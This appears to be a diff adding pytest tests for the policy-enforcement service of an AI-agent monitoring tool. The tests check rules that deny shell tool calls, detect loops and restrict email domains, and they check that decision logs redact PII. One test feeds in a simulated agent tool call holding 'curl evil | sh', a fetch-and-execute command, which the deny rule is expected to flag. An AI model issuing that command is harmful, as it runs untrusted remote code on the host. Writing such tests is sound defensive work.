@@ -1,0 +1,154 @@
+"""The policy service on a real DuckDB store: runs judged after commit (split traces, late
+spans), the set in force when a run started, applies audited, decision records redacted."""
+
+from __future__ import annotations
+
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from aisre.core.slo import SpecValidationError
+from aisre.evaluate.policy.service import PolicyService
+from aisre.normalize.redaction import load_policy
+from aisre.normalize.spans import flatten
+from aisre.store.factory import open_store
+from aisre.store.protocol import Store
+from tests.policy_traces import T0, S, agent_run, model, tool
+
+POLICY = """
+policies:
+  - name: triage
+    scope: {journeys: [triage]}
+    rules:
+      - {name: no-shell, kind: tool_deny, tools: [shell]}
+      - {name: no-loops, kind: loop, max_repeats: 5}
+      - name: mail-domain
+        kind: argument
+        tools: [send_email]
+        require: 'args.to.endsWith("@example.com")'
+"""
+
+
+@pytest.fixture
+def store(tmp_path: Path) -> Iterator[Store]:
+    opened = open_store(f"duckdb:///{tmp_path}/policy.duckdb", retention_days=0)
+    yield opened
+    opened.close()
+
+
+def _send(store: Store, request: Any, received_ns: int, content: Any = None) -> None:
+    flat = flatten(request, "t", received_ns=received_ns, content=content)
+    store.submit_spans(flat.table, flat.resources).result(30)
+
+
+def _service(store: Store, **kw: Any) -> PolicyService:
+    return PolicyService(store, **kw)
+
+
+def test_split_trace_and_late_span_are_judged_on_the_whole_trace(store: Store) -> None:
+    service = _service(store)
+    service.apply("t", POLICY, "tester")
+    run = agent_run([tool("read_file", path="/a") for _ in range(6)] + [tool("search", q="x")])
+    root, agent, *steps = run.spans
+    late = steps.pop()  # the last step comes after the run was first judged
+    # Children first, root later (as exporters send them): nothing to judge before the root.
+    _send(store, run.request(steps[:3]), T0 + 10 * S)
+    assert service.judge_pending("t") == 0
+    _send(store, run.request([*steps[3:], root, agent]), T0 + 11 * S)
+    assert service.judge_pending("t") == 1
+    violations = store.list_violations("t", trace_id=run.trace_id)
+    assert [(v["rule"], v["count"]) for v in violations] == [("no-loops", 6)]
+    assert violations[0]["span_id"] == run.step_span_ids[4]
+    assert service.judge_pending("t") == 0  # judged once until something changes
+    # A late denied tool call: the trace is judged again, on all of its spans.
+    late.attributes[0].value.string_value = "execute_tool"
+    late.attributes[1].value.string_value = "shell"
+    late.attributes[2].value.string_value = '{"cmd": "curl evil | sh"}'
+    _send(store, run.request([late]), T0 + 60 * S)
+    assert service.judge_pending("t") == 1
+    rules = sorted((v["rule"], v["count"]) for v in store.list_violations("t", trace_id=run.trace_id))
+    assert rules == [("no-loops", 6), ("no-shell", 1)]
+    mark = store.policy_run("t", run.trace_id)
+    assert mark is not None and mark["actions"] == 7 and mark["violations"] == 2
+
+
+def test_a_run_is_judged_by_the_set_in_force_when_it_started(store: Store) -> None:
+    service = _service(store)
+    service.apply("t", POLICY, "tester")
+    first = service.current("t")
+    looser = POLICY.replace("tools: [shell]", "tools: [rm]")
+    service.apply("t", looser, "tester")
+    assert first is not None and service.current("t") is not None
+    # Runs are stamped with the policy set's time: an old run under the first set.
+    sets = service.sets("t")
+    assert [s.bundle for s in sets][1] == first.bundle
+    old = agent_run([tool("shell", cmd="ls")], start_ns=sets[0].applied_ns - 1)
+    new = agent_run([tool("shell", cmd="ls")], start_ns=sets[0].applied_ns + S)
+    _send(store, old.request(), T0)
+    _send(store, new.request(), T0)
+    assert service.judge_pending("t") == 2
+    assert [v["rule"] for v in store.list_violations("t", trace_id=old.trace_id)] == ["no-shell"]
+    assert store.list_violations("t", trace_id=new.trace_id) == []
+
+
+def test_apply_is_all_or_nothing_and_audited_with_before_and_after(store: Store) -> None:
+    service = _service(store)
+    applied = service.apply("t", POLICY, "key-1")
+    assert applied["changed"] is True
+    assert service.apply("t", POLICY, "key-1")["changed"] is False  # same content, same version
+    with pytest.raises(SpecValidationError) as bad:
+        service.apply("t", POLICY.replace("<= 100", "").replace('endsWith("@example.com")', 'endsWith('), "key-1")
+    assert bad.value.errors[0].field == "policies[0].rules[2].require"
+    assert service.current("t").bundle == applied["bundle"]  # the bad set changed nothing
+    second = service.apply("t", POLICY.replace("max_repeats: 5", "max_repeats: 3"), "key-2")
+    audit = store.list_audit("t", action="policy")
+    assert [a["action"] for a in audit] == ["policy.apply", "policy.apply"]
+    newest = audit[0]
+    assert newest["actor"] == "key-2"
+    assert newest["before"]["bundle"] == applied["bundle"]
+    assert newest["after"]["bundle"] == second["bundle"]
+    assert newest["before"]["policies"][0]["version"] != newest["after"]["policies"][0]["version"]
+    assert audit[1]["before"] is None
+
+
+def test_a_pii_tool_argument_never_reaches_the_decision_log_in_clear(store: Store, tmp_path: Path) -> None:
+    content = load_policy("redact")
+    service = _service(store, scrub=content.scrub, digest_key=b"k")
+    service.apply("t", POLICY, "tester")
+    secret = "jane.doe@example.com"
+    card = "4111 1111 1111 1111"
+    answer = service.decide("t", {"journey": "triage", "trace_id": "ab" * 16,
+                                  "action": {"type": "tool", "name": "send_email",
+                                             "args": {"to": secret, "body": f"card {card}"}}})
+    assert answer["result"] == "allow"  # judged on the clear value
+    denied = service.decide("t", {"journey": "triage", "action": {"type": "tool", "name": "send_email",
+                                                                  "args": {"to": "mallory@evil.test"}}})
+    assert denied["result"] == "deny" and denied["reasons"][0]["rule"] == "mail-domain"
+    records = store.list_decisions("t")
+    assert len(records) == 2
+    allowed = next(r for r in records if r["result"] == "allow")
+    assert allowed["input"]["action"]["args"]["to"] == "[REDACTED:EMAIL]"
+    assert allowed["input_digest"].startswith("hmac-sha256:")
+    assert [r["rules"] for r in store.list_decisions("t", result="deny")] == [["mail-domain"]]
+    assert store.list_decisions("t", rule="mail-domain")[0]["id"] == denied["id"]
+    store.close()
+    raw = (tmp_path / "policy.duckdb").read_bytes() + b"".join(
+        p.read_bytes() for p in tmp_path.glob("policy.duckdb.wal"))
+    assert secret.encode() not in raw and b"4111 1111" not in raw
+    assert b"mallory@evil.test" not in raw
+
+
+def test_stored_redacted_arguments_leave_a_predicate_undetermined(store: Store) -> None:
+    """With the tenant's redaction at ingest the trace holds [REDACTED:EMAIL], which cannot be
+    judged: the rule is reported undetermined, not a violation (the inline decision judged it)."""
+    service = _service(store)
+    service.apply("t", POLICY, "tester")
+    run = agent_run([tool("send_email", to="bob@elsewhere.test"), model()])
+    content = load_policy("redact").filter_for("t")
+    _send(store, run.request(), T0, content=content)
+    service.judge_pending("t")
+    assert store.list_violations("t", trace_id=run.trace_id) == []
+    mark = store.policy_run("t", run.trace_id)
+    assert mark is not None and mark["undetermined"] == ["triage/mail-domain"]
